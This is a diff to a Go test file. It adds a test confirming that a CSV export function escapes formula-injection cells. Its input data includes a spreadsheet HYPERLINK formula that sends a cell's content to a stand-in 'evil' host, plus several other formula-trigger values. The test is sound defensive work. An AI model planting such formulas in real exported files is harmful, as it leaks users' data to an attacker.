@@ -33,3 +33,15 @@ func TestReadCSVAndXLSX(t *testing.T) {
 		t.Error("broken XLSX accepted")
 	}
 }
+
+func TestExportCSVDefusesFormulas(t *testing.T) {
+	got := string(ExportCSV([]string{"mac", "error"}, [][]string{
+		{"0C1105000001", `=HYPERLINK("https://evil/?"&A1,"details")`},
+		{"0C1105000002", "+1"}, {"0C1105000003", "-2"}, {"0C1105000004", "@SUM(1)"}, {"0C1105000005", "checksum mismatch"},
+	}))
+	for _, want := range []string{`'=HYPERLINK(`, "'+1", "'-2", "'@SUM(1)", ",checksum mismatch\n"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("export lacks %q:\n%s", want, got)
+		}
+	}
+}
